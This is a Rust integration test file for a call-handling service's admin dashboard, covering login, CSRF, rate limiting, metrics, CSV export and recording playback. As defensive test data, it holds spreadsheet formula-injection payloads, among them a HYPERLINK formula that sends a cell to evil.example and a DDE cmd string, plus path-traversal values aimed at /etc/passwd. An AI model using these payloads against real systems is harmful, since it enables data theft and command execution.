//! The owner's dashboard over real HTTP: login, sessions, CSRF, metrics, CSV export and
//! voicemail playback with range requests. (tests/browser.rs drives the page itself.)

#![allow(clippy::unwrap_used)]

mod common;

use std::collections::BTreeMap;

use bytes::Bytes;
use callbox::calls::{CallEvent, EventSource};
use common::*;
use http::{Method, StatusCode};

async fn admin(server: &TestServer, method: Method, path: &str, headers: &[(&str, &str)], body: &str) -> Reply {
    request(server.admin, method, path, headers, Bytes::from(body.to_owned())).await
}

async fn log_in(server: &TestServer) -> String {
    let form = format!("token={ADMIN_TOKEN}");
    let r =
        admin(server, Method::POST, "/login", &[("content-type", "application/x-www-form-urlencoded")], &form).await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.text());
    let cookie = r.headers["set-cookie"].to_str().unwrap().to_owned();
    assert!(cookie.contains("HttpOnly") && cookie.contains("SameSite=Strict"), "{cookie}");
    cookie.split(';').next().unwrap().to_owned()
}

// Long on purpose: one session's life in order: login, use, CSRF refusals, logout.
#[tokio::test]
async fn login_session_csrf_and_logout() {
    let server = TestServer::start().await;
    let host = server.admin.to_string();
    // Not logged in: the page sends the browser to the login form, the API says 401.
    let r = admin(&server, Method::GET, "/", &[], "").await;
    assert_eq!(r.status, StatusCode::SEE_OTHER);
    assert_eq!(r.headers["location"], "/login");
    for path in ["/api/v1/calls", "/api/v1/events", "/metrics", "/api/v1/calls.csv"] {
        assert_eq!(admin(&server, Method::GET, path, &[], "").await.status, StatusCode::UNAUTHORIZED, "{path}");
    }
    let r =
        admin(&server, Method::POST, "/login", &[("content-type", "application/x-www-form-urlencoded")], "token=nope")
            .await;
    assert_eq!(r.status, StatusCode::UNAUTHORIZED);
    assert!(!r.headers.contains_key("set-cookie"));

    let cookie = log_in(&server).await;
    let page = admin(&server, Method::GET, "/", &[("cookie", &cookie)], "").await;
    assert_eq!(page.status, StatusCode::OK);
    assert!(page.text().contains("<script src=\"/assets/app.js\""));
    assert!(page.headers["content-security-policy"].to_str().unwrap().contains("default-src 'self'"));
    assert_eq!(admin(&server, Method::GET, "/api/v1/calls", &[("cookie", &cookie)], "").await.status, StatusCode::OK);
    let csrf = admin(&server, Method::GET, "/api/v1/session", &[("cookie", &cookie)], "").await.json()["csrf_token"]
        .as_str()
        .unwrap()
        .to_owned();

    // Cross-site POSTs riding on the cookie are refused: no token, a wrong token, a foreign
    // origin, or a browser that says the request is cross-site.
    let h = |extra: &[(&'static str, &'static str)]| {
        let mut v: Vec<(&str, String)> = vec![("cookie", cookie.clone()), ("host", host.clone())];
        v.extend(extra.iter().map(|(k, val)| (*k, (*val).to_owned())));
        v
    };
    let with_csrf = |mut v: Vec<(&'static str, String)>| {
        v.push(("x-csrf-token", csrf.clone()));
        v
    };
    for headers in [
        h(&[]),
        h(&[("x-csrf-token", "forged")]),
        with_csrf(h(&[("origin", "https://evil.example")])),
        with_csrf(h(&[("sec-fetch-site", "cross-site")])),
    ] {
        let refs: Vec<(&str, &str)> = headers.iter().map(|(k, v)| (*k, v.as_str())).collect();
        assert_eq!(admin(&server, Method::POST, "/logout", &refs, "").await.status, StatusCode::FORBIDDEN, "{refs:?}");
    }
    // Still logged in; a same-origin logout with the token works and ends the session.
    let origin = format!("http://{host}");
    let ok = with_csrf(vec![
        ("cookie", cookie.clone()),
        ("origin", origin.clone()),
        ("sec-fetch-site", "same-origin".into()),
    ]);
    let refs: Vec<(&str, &str)> = ok.iter().map(|(k, v)| (*k, v.as_str())).collect();
    let r = admin(&server, Method::POST, "/logout", &refs, "").await;
    assert_eq!(r.status, StatusCode::NO_CONTENT);
    assert!(r.headers["set-cookie"].to_str().unwrap().contains("Max-Age=0"));
    assert_eq!(
        admin(&server, Method::GET, "/api/v1/calls", &[("cookie", &cookie)], "").await.status,
        StatusCode::UNAUTHORIZED
    );
}

#[tokio::test]
async fn login_is_rate_limited() {
    let server = TestServer::start().await;
    let form = [("content-type", "application/x-www-form-urlencoded")];
    for _ in 0..5 {
        assert_eq!(admin(&server, Method::POST, "/login", &form, "token=guess").await.status, StatusCode::UNAUTHORIZED);
    }
    // Even the right token waits now.
    let r = admin(&server, Method::POST, "/login", &form, &format!("token={ADMIN_TOKEN}")).await;
    assert_eq!(r.status, StatusCode::TOO_MANY_REQUESTS);
    assert!(r.headers.contains_key("retry-after"));
}

fn place_call<'a>(sid: &'a str, to: &'a str) -> Vec<(&'static str, &'a str)> {
    vec![("CallSid", sid), ("From", "+15035550123"), ("To", to), ("CallStatus", "ringing")]
}

// Long on purpose: calls placed, then every metric they must move, checked on one scrape.
#[tokio::test]
async fn metrics_parse_and_count_the_calls_placed() {
    let server = TestServer::start().await;
    let service = "+15035550100";
    let parts = "+15035550199";
    let mut webhooks = 0;
    for (i, (line, status)) in
        [(service, "completed"), (service, "completed"), (service, "no-answer"), (parts, "completed"), (parts, "busy")]
            .iter()
            .enumerate()
    {
        let sid = format!("CA9{i:031}");
        assert_eq!(
            server.post_signed("/api/v1/webhooks/incoming-call", &place_call(&sid, line)).await.status,
            StatusCode::OK
        );
        let p = [("CallSid", sid.as_str()), ("CallStatus", *status), ("SequenceNumber", "3"), ("To", line)];
        assert_eq!(server.post_signed("/api/v1/webhooks/call-status", &p).await.status, StatusCode::NO_CONTENT);
        // A retry must not count twice.
        assert_eq!(server.post_signed("/api/v1/webhooks/call-status", &p).await.status, StatusCode::NO_CONTENT);
        webhooks += 3;
    }
    // One call still ringing.
    assert_eq!(
        server
            .post_signed("/api/v1/webhooks/incoming-call", &place_call("CA00000000000000000000000039313030", service))
            .await
            .status,
        StatusCode::OK
    );
    webhooks += 1;

    // The live board follows the bus asynchronously: poll until it has seen everything.
    let auth = format!("Bearer {ADMIN_TOKEN}");
    let mut scrape = None;
    for _ in 0..100 {
        let r = admin(&server, Method::GET, "/metrics", &[("authorization", &auth)], "").await;
        assert_eq!(r.status, StatusCode::OK);
        let text = r.text();
        let parsed = prometheus_parse::Scrape::parse(text.lines().map(|l| Ok(l.to_owned()))).unwrap();
        let total: f64 = parsed
            .samples
            .iter()
            .filter(|s| s.metric == "callbox_calls_total")
            .map(|s| match s.value {
                prometheus_parse::Value::Counter(v) | prometheus_parse::Value::Untyped(v) => v,
                _ => 0.0,
            })
            .sum();
        if total >= 5.0 {
            scrape = Some(parsed);
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    let scrape = scrape.expect("finished calls never showed in /metrics");
    let mut calls = BTreeMap::new();
    let mut active = None;
    let mut webhook_count = 0.0;
    for s in &scrape.samples {
        match (s.metric.as_str(), &s.value) {
            // OpenMetrics names the family `callbox_calls` and the sample `callbox_calls_total`;
            // this parser then reports the sample as untyped.
            ("callbox_calls_total", prometheus_parse::Value::Counter(v) | prometheus_parse::Value::Untyped(v)) => {
                calls
                    .insert((s.labels.get("status").unwrap().to_owned(), s.labels.get("line").unwrap().to_owned()), *v);
            }
            ("callbox_active_calls", prometheus_parse::Value::Gauge(v)) => active = Some(*v),
            ("callbox_webhook_seconds", prometheus_parse::Value::Histogram(buckets)) => {
                webhook_count += buckets.iter().find(|b| b.less_than.is_infinite()).map_or(0.0, |b| b.count);
            }
            _ => {}
        }
    }
    let expected: BTreeMap<(String, String), f64> = [
        (("completed", service), 2.0),
        (("no-answer", service), 1.0),
        (("completed", parts), 1.0),
        (("busy", parts), 1.0),
    ]
    .iter()
    .map(|((s, l), v)| ((s.to_string(), l.to_string()), *v))
    .collect();
    assert_eq!(calls, expected);
    assert_eq!(active, Some(1.0));
    assert_eq!(webhook_count, f64::from(webhooks));
    assert!(scrape.samples.iter().any(|s| s.metric == "callbox_store_bytes"));
}

#[tokio::test]
async fn csv_export_round_trips_awkward_values() {
    let server = TestServer::start().await;
    let names = ["Müller, \"Bob\" & Söhne 🚗", "plain", "line\nbreak, and \"quotes\""];
    for (i, name) in names.iter().enumerate() {
        let sid = format!("CA8{i:031}");
        let p = [("CallSid", sid.as_str()), ("From", "+1, \"555\""), ("To", "+15035550100"), ("CallerName", name)];
        assert_eq!(server.post_signed("/api/v1/webhooks/incoming-call", &p).await.status, StatusCode::OK);
    }
    let auth = format!("Bearer {ADMIN_TOKEN}");
    let r = admin(&server, Method::GET, "/api/v1/calls.csv", &[("authorization", &auth)], "").await;
    assert_eq!(r.status, StatusCode::OK);
    assert!(r.headers["content-type"].to_str().unwrap().starts_with("text/csv"));
    let mut reader = csv::Reader::from_reader(r.body.as_ref());
    let header: Vec<String> = reader.headers().unwrap().iter().map(str::to_owned).collect();
    let col = |n: &str| header.iter().position(|h| h == n).unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 3);
    assert!(!header.iter().any(|h| h == "recording"), "no internal paths: {header:?}");
    for row in &rows {
        // Local time as a spreadsheet reads it, and whole seconds in UTC.
        let local = &row[col("local_time")];
        assert!(local.len() == 19 && local.as_bytes()[10] == b' ' && local.as_bytes()[13] == b':', "{local}");
        let utc = &row[col("first_seen")];
        assert!(utc.len() == 20 && utc.ends_with('Z'), "no fractions of a second: {utc}");
        assert_eq!(&row[col("outcome")], "live");
    }
    for (row, name) in rows.iter().zip(names) {
        assert_eq!(&row[col("caller_name")], name);
        // Starts with `+`: a spreadsheet would read it as a formula, so it is kept as text.
        assert_eq!(&row[col("from")], "'+1, \"555\"");
    }
    // A date range that excludes today is empty; a bad date is a clear 400.
    let r =
        admin(&server, Method::GET, "/api/v1/calls.csv?from=2020-01-01&to=2020-01-31", &[("authorization", &auth)], "")
            .await;
    assert_eq!(csv::Reader::from_reader(r.body.as_ref()).records().count(), 0);
    let r = admin(&server, Method::GET, "/api/v1/calls.csv?from=yesterday", &[("authorization", &auth)], "").await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST);
}

#[tokio::test]
async fn csv_export_neutralises_formulas_and_keeps_phone_numbers_text() {
    let server = TestServer::start().await;
    // What a caller controls (their caller ID name, or a spoofed From) must not become a
    // formula in the owner's spreadsheet.
    let evil = [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")",
        "+SUM(1,2)",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+2",
        "\r=1+2",
        " =1+2",
    ];
    for (i, name) in evil.iter().enumerate() {
        let sid = format!("CA84{i:030}");
        let p = [("CallSid", sid.as_str()), ("From", "+15035550123"), ("To", "+15035550100"), ("CallerName", name)];
        assert_eq!(server.post_signed("/api/v1/webhooks/incoming-call", &p).await.status, StatusCode::OK);
    }
    let harmless =
        [("CA00000000000000000000000038343930", "Bob's Garage"), ("CA00000000000000000000000038343931", "Müller 2+2")];
    for (sid, name) in harmless {
        let p = [("CallSid", sid), ("From", "=cmd|' /C calc'!A0"), ("To", "+15035550100"), ("CallerName", name)];
        assert_eq!(server.post_signed("/api/v1/webhooks/incoming-call", &p).await.status, StatusCode::OK);
    }
    let auth = format!("Bearer {ADMIN_TOKEN}");
    let r = admin(&server, Method::GET, "/api/v1/calls.csv", &[("authorization", &auth)], "").await;
    assert_eq!(r.status, StatusCode::OK);
    let mut reader = csv::Reader::from_reader(r.body.as_ref());
    let header: Vec<String> = reader.headers().unwrap().iter().map(str::to_owned).collect();
    let col = |n: &str| header.iter().position(|h| h == n).unwrap();
    let rows: BTreeMap<String, csv::StringRecord> =
        reader.records().map(Result::unwrap).map(|r| (r[col("call_sid")].to_owned(), r)).collect();
    assert_eq!(rows.len(), evil.len() + harmless.len());
    for (i, name) in evil.iter().enumerate() {
        let row = &rows[&format!("CA84{i:030}")];
        assert_eq!(row[col("caller_name")], format!("'{name}"), "{name:?}");
        // An E.164 number stays readable: text, not a formula and not 1.5E+10.
        assert_eq!(&row[col("from")], "'+15035550123");
        assert_eq!(&row[col("to")], "'+15035550100");
    }
    for (sid, name) in harmless {
        assert_eq!(&rows[sid][col("caller_name")], name, "a name that is no formula is left alone");
        assert_eq!(&rows[sid][col("from")], "'=cmd|' /C calc'!A0");
    }
    // No cell of the export starts with a character a spreadsheet acts on.
    for row in rows.values() {
        for cell in row {
            let first = cell.trim_start_matches(' ').chars().next();
            assert!(!matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r')), "{cell:?} in {row:?}");
        }
    }
}

#[tokio::test]
async fn csv_dates_beyond_what_the_box_can_represent_are_clamped() {
    let server = TestServer::start().await;
    let params = incoming_params("CA00000000000000000000000038353030");
    assert_eq!(server.post_signed("/api/v1/webhooks/incoming-call", &refs(&params)).await.status, StatusCode::OK);
    let auth = format!("Bearer {ADMIN_TOKEN}");
    let rows = |r: &Reply| -> Vec<String> {
        csv::Reader::from_reader(r.body.as_ref()).records().map(|r| r.unwrap()[0].to_owned()).collect()
    };
    // "Everything up to the end of time" includes today's call.
    for query in [
        "to=9999-12-31",
        "from=0001-01-01&to=9999-12-31",
        "from=-009999-01-01&to=9999-12-31",
        "to=9999-12-31T23:59:59Z",
        "from=-009999-01-01T00:00:00Z",
    ] {
        let r =
            admin(&server, Method::GET, &format!("/api/v1/calls.csv?{query}"), &[("authorization", &auth)], "").await;
        assert_eq!(r.status, StatusCode::OK, "{query}: {}", r.text());
        assert_eq!(rows(&r), ["CA00000000000000000000000038353030"], "{query}");
    }
    // A range wholly beyond the representable end is empty, not an error.
    let r =
        admin(&server, Method::GET, "/api/v1/calls.csv?from=9999-12-31&to=9999-12-31", &[("authorization", &auth)], "")
            .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text());
    assert!(rows(&r).is_empty());
    // An inverted range is still refused.
    let r =
        admin(&server, Method::GET, "/api/v1/calls.csv?from=9999-12-31&to=2026-01-01", &[("authorization", &auth)], "")
            .await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST);
}

#[tokio::test]
async fn head_is_answered_like_get_without_a_body() {
    let server = TestServer::start().await;
    let params = incoming_params("CA00000000000000000000000038363030");
    assert_eq!(server.post_signed("/api/v1/webhooks/incoming-call", &refs(&params)).await.status, StatusCode::OK);
    let auth = format!("Bearer {ADMIN_TOKEN}");
    let with_token = [("authorization", auth.as_str())];
    for (path, headers) in [
        ("/healthz", &[][..]),
        ("/login", &[][..]),
        ("/assets/style.css", &[][..]),
        ("/assets/app.js", &[][..]),
        ("/", &with_token[..]),
        ("/api/v1/calls", &with_token[..]),
        ("/api/v1/calls/CA00000000000000000000000038363030", &with_token[..]),
        ("/api/v1/calls.csv", &with_token[..]),
        ("/api/v1/health", &with_token[..]),
        ("/api/v1/indicators", &with_token[..]),
        ("/api/v1/session", &with_token[..]),
        ("/metrics", &with_token[..]),
        ("/api/v1/events", &with_token[..]),
    ] {
        let head =
            tokio::time::timeout(std::time::Duration::from_secs(10), admin(&server, Method::HEAD, path, headers, ""))
                .await
                .unwrap_or_else(|_| panic!("HEAD {path} was not answered"));
        assert_eq!(head.status, StatusCode::OK, "HEAD {path}");
        assert!(head.body.is_empty(), "HEAD {path} sent a body");
        if path == "/api/v1/events" {
            assert_eq!(head.headers["content-type"], "text/event-stream");
            continue;
        }
        let get = admin(&server, Method::GET, path, headers, "").await;
        assert_eq!(head.headers.get("content-type"), get.headers.get("content-type"), "HEAD {path}");
        if path.starts_with("/assets/") || path == "/login" || path == "/" {
            assert_eq!(head.headers["content-length"], get.body.len().to_string().as_str(), "HEAD {path}");
        }
    }
    // HEAD is no way around the token.
    assert_eq!(admin(&server, Method::HEAD, "/api/v1/calls", &[], "").await.status, StatusCode::UNAUTHORIZED);
    assert_eq!(admin(&server, Method::HEAD, "/nope", &with_token, "").await.status, StatusCode::NOT_FOUND);
}

/// A minimal valid WAV (8 kHz mono 16-bit) of `samples` samples.
pub fn wav_bytes(samples: usize) -> Vec<u8> {
    let data_len = (samples * 2) as u32;
    let mut v = Vec::new();
    v.extend_from_slice(b"RIFF");
    v.extend_from_slice(&(36 + data_len).to_le_bytes());
    v.extend_from_slice(b"WAVEfmt ");
    v.extend_from_slice(&16u32.to_le_bytes());
    v.extend_from_slice(&1u16.to_le_bytes());
    v.extend_from_slice(&1u16.to_le_bytes());
    v.extend_from_slice(&8000u32.to_le_bytes());
    v.extend_from_slice(&16000u32.to_le_bytes());
    v.extend_from_slice(&2u16.to_le_bytes());
    v.extend_from_slice(&16u16.to_le_bytes());
    v.extend_from_slice(b"data");
    v.extend_from_slice(&data_len.to_le_bytes());
    for i in 0..samples {
        let s = ((i as f64 * 440.0 * std::f64::consts::TAU / 8000.0).sin() * 8000.0) as i16;
        v.extend_from_slice(&s.to_le_bytes());
    }
    v
}

// Long on purpose: a table of range requests and path attacks against one recording.
#[tokio::test]
async fn recordings_are_served_with_ranges_and_only_from_the_data_dir() {
    let server = TestServer::start().await;
    let wav = wav_bytes(8000);
    std::fs::create_dir_all(server.dir.path().join("recordings")).unwrap();
    std::fs::write(server.dir.path().join("recordings/CA00000000000000000000000037373030.wav"), &wav).unwrap();
    for (sid, path) in [
        ("CA00000000000000000000000037373030", "recordings/CA00000000000000000000000037373030.wav"),
        ("CA00000000000000000000000037373031", "../../etc/passwd"),
        ("CA00000000000000000000000037373032", "/etc/passwd"),
    ] {
        let event = CallEvent {
            call_sid: sid.into(),
            source: EventSource::MediaStream,
            status: None,
            sequence: None,
            twilio_timestamp: None,
            received_at: jiff::Timestamp::now(),
            from: None,
            to: None,
            direction: None,
            duration_secs: None,
            dedupe_key: "media:MZ1:stopped".into(),
            details: [("MediaEvent", "stopped"), ("Outcome", "message"), ("Recording", path)]
                .iter()
                .map(|(k, v)| (k.to_string(), v.to_string()))
                .collect(),
        };
        server.app.calls.record(event).await.unwrap();
    }
    let auth = format!("Bearer {ADMIN_TOKEN}");
    let whole = admin(
        &server,
        Method::GET,
        "/api/v1/calls/CA00000000000000000000000037373030/recording",
        &[("authorization", &auth)],
        "",
    )
    .await;
    assert_eq!(whole.status, StatusCode::OK);
    assert_eq!(whole.headers["content-type"], "audio/wav");
    assert_eq!(whole.headers["accept-ranges"], "bytes");
    assert_eq!(whole.body.as_ref(), wav.as_slice());
    let part = admin(
        &server,
        Method::GET,
        "/api/v1/calls/CA00000000000000000000000037373030/recording",
        &[("authorization", &auth), ("range", "bytes=44-99")],
        "",
    )
    .await;
    assert_eq!(part.status, StatusCode::PARTIAL_CONTENT);
    assert_eq!(part.headers["content-range"], format!("bytes 44-99/{}", wav.len()).as_str());
    assert_eq!(part.body.as_ref(), &wav[44..100]);
    let tail = admin(
        &server,
        Method::GET,
        "/api/v1/calls/CA00000000000000000000000037373030/recording",
        &[("authorization", &auth), ("range", "bytes=-10")],
        "",
    )
    .await;
    assert_eq!(tail.body.as_ref(), &wav[wav.len() - 10..]);
    let bad = admin(
        &server,
        Method::GET,
        "/api/v1/calls/CA00000000000000000000000037373030/recording",
        &[("authorization", &auth), ("range", "bytes=99999999-")],
        "",
    )
    .await;
    assert_eq!(bad.status, StatusCode::RANGE_NOT_SATISFIABLE);
    for sid in [
        "CA00000000000000000000000037373031",
        "CA00000000000000000000000037373032",
        "CA00000000000000000000000030303030",
    ] {
        let r = admin(&server, Method::GET, &format!("/api/v1/calls/{sid}/recording"), &[("authorization", &auth)], "")
            .await;
        assert_eq!(r.status, StatusCode::NOT_FOUND, "{sid}");
    }
    assert_eq!(
        admin(&server, Method::GET, "/api/v1/calls/CA00000000000000000000000037373030/recording", &[], "").await.status,
        StatusCode::UNAUTHORIZED
    );
}
